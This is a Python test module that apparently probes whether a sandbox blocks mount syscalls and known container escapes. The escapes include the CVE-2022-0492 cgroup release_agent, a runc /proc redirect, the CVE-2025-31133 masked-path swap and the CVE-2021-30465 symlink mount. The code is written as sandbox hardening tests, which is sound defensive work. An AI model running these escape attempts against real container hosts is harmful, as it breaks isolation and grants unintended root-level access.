"""Mounts made, changed and removed, by the old calls and the new (S14, CVE-2022-0492, procfs redirects)."""

import ctypes
import os
import struct

from hostile import LIBC, Refused, attack, attempt, in_child, main, syscall, token_in, code

AT_FDCWD, EMPTY_PATH, CLONE_TREE = -100, 0x1000, 1
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096


def mount(source, target, kind, flags=0, data=None):
    with attempt(f"mount {kind.decode() or 'bind'}"):
        syscall(165, source, target, kind, flags, data or 0)


def directory(name):
    path = f"/tmp/{name}-{os.getpid()}"
    os.mkdir(path)
    return path


@attack
def mount_tmpfs():
    place = directory("tmpfs")
    before = os.stat(place).st_dev
    mount(b"none", place.encode(), b"tmpfs")
    return "mounted" if os.stat(place).st_dev != before else "same"


@attack
def mount_bind():
    place = directory("bind")
    mount(b"/etc", place.encode(), b"", MS_BIND)
    return "mounted" if os.path.exists(f"{place}/passwd") else "empty"


@attack
def mount_proc():
    """Another procfs has no masks."""
    place = directory("proc")
    mount(b"proc", place.encode(), b"proc")
    return "mounted" if os.path.exists(f"{place}/kallsyms") else "empty"


@attack
def mount_sysfs():
    place = directory("sysfs")
    mount(b"sysfs", place.encode(), b"sysfs")
    return "mounted" if os.path.exists(f"{place}/kernel") else "empty"


@attack
def remount_writable():
    mount(b"none", b"/", b"", MS_REMOUNT | MS_BIND)
    return "remounted"


@attack
def unmask():
    """What lies under a mount: the plain /dev under the one that was mounted on it, a file under its mask."""
    before = os.stat("/dev/shm").st_dev
    with attempt("umount2"):
        syscall(166, b"/dev/shm", 2)
    return "unmounted" if os.stat("/dev/shm").st_dev != before else "same"


@attack
def new_mount_calls():
    place = directory("fsopen")
    with attempt("fsopen"):
        context = syscall(430, b"tmpfs", 0)
    with attempt("fsconfig"):
        syscall(431, context, 6, 0, 0, 0)
    with attempt("fsmount"):
        made = syscall(432, context, 0, 0)
    with attempt("move_mount"):
        syscall(429, made, b"", AT_FDCWD, place.encode(), 4)
    open(f"{place}/file", "x").close()
    return "mounted"


@attack
def fspick():
    with attempt("fspick"):
        syscall(433, AT_FDCWD, b"/tmp", 0)
    return "picked"


@attack
def open_tree():
    place = directory("tree")
    with attempt("open_tree"):
        tree = syscall(428, AT_FDCWD, b"/etc", CLONE_TREE)
    with attempt("move_mount"):
        syscall(429, tree, b"", AT_FDCWD, place.encode(), 4)
    return "mounted" if os.path.exists(f"{place}/passwd") else "empty"


@attack
def move_mount():
    """Moving an existing mount away uncovers what is under it."""
    place = directory("moved")
    with attempt("move_mount"):
        syscall(429, AT_FDCWD, b"/dev/shm", AT_FDCWD, place.encode(), 0)
    return "moved"


@attack
def mount_setattr():
    attributes = ctypes.create_string_buffer(struct.pack("<4Q", 0, MS_RDONLY, 0, 0))
    with attempt("mount_setattr"):
        syscall(442, AT_FDCWD, b"/", 0, attributes, 32)
    return "writable"


@attack
def list_mounts():
    """Ids of all mounts below the root, the hidden ones included."""
    request = ctypes.create_string_buffer(struct.pack("<IIQQQ", 32, 0, 2**64 - 1, 0, 0))
    found = (ctypes.c_uint64 * 256)()
    with attempt("listmount"):
        count = syscall(458, request, found, 256, 0)
    return "listed" if count else "none"


@attack
def release_agent():
    """CVE-2022-0492: cgroup v1 of one's own user namespace, whose release agent the kernel runs as root."""

    def enter():
        place = directory("cgroup")
        LIBC.unshare(0x10000000 | 0x2000000 | 0x20000)
        groups = [line.split() for line in open("/proc/cgroups").readlines()[1:]]
        for name in [fields[0] for fields in groups if fields[1] != "0"]:
            mount(b"cgroup", place.encode(), b"cgroup", 0, name.encode())
            break
        else:
            raise Refused("no hierarchy of version 1")
        with attempt("open release_agent"):
            os.close(os.open(f"{place}/release_agent", os.O_WRONLY))
        return "opened"

    return in_child(enter)


@attack
def cgroupfs():
    """A cgroupfs that is there already, or can be mounted."""
    for line in open("/proc/self/mountinfo"):
        if " - cgroup" in line:
            return "mounted"
    mount(b"none", directory("unified").encode(), b"cgroup2")
    return "mounted"


@attack
def proc_redirect():
    """runc: what a privileged helper writes to /proc/self/attr/exec lands where the tenant's link points."""

    def redirect():
        mount(b"none", b"/proc", b"tmpfs")
        os.makedirs("/proc/self/attr")
        target = directory("landed") + "/file"
        os.symlink(target, "/proc/self/attr/exec")
        with open("/proc/self/attr/exec", "wb") as label:
            label.write(open(code("token"), "rb").read())
        return token_in(open(target, "rb").read())

    return in_child(redirect)


@attack
def masked_path():
    """CVE-2025-31133: /dev/null becomes a link, and the next mask shows its target instead of nothing."""

    def replace():
        with attempt("replace /dev/null"):
            place = directory("null")
            if os.stat("/dev").st_uid == os.getuid():
                mount(b"none", b"/dev", b"tmpfs")
            else:
                os.rename("/dev/null", f"{place}/null")
            os.symlink(code("token"), "/dev/null")
        if os.getuid() == 0:
            # The part of the container engine, which masks by name.
            mount(b"/dev/null", b"/proc/uptime", b"", MS_BIND)
        for path in ("/proc/uptime", "/proc/kcore", "/proc/keys", "/proc/timer_list"):
            try:
                return token_in(open(path, "rb").read(4096))
            except (OSError, Refused):
                continue
        raise Refused("no mask shows the link's target")

    return in_child(replace)


def mount_points():
    return {line.split()[4] for line in open("/proc/self/mountinfo")}


@attack
def symlink_at_mount_target():
    """CVE-2021-30465: the code has links named as the engine's mount targets. No mount may lie where one points, or in the
    code at all."""
    names = os.listdir(code("planted/targets"))
    targets = {os.path.realpath(code(f"planted/targets/{name}")) for name in names}
    for point in mount_points():
        if point in targets or point.startswith(code("")) or point.startswith("/opt/"):
            return "followed"
    raise Refused(f"no mount followed one of {len(names)} links")


@attack
def symlink_at_mount_target_mechanism():
    """A mount by name follows the link."""
    target = directory("target")
    os.symlink(target, f"{target}-link")
    mount(b"none", f"{target}-link".encode(), b"tmpfs")
    return "followed" if target in mount_points() else "not followed"


main()
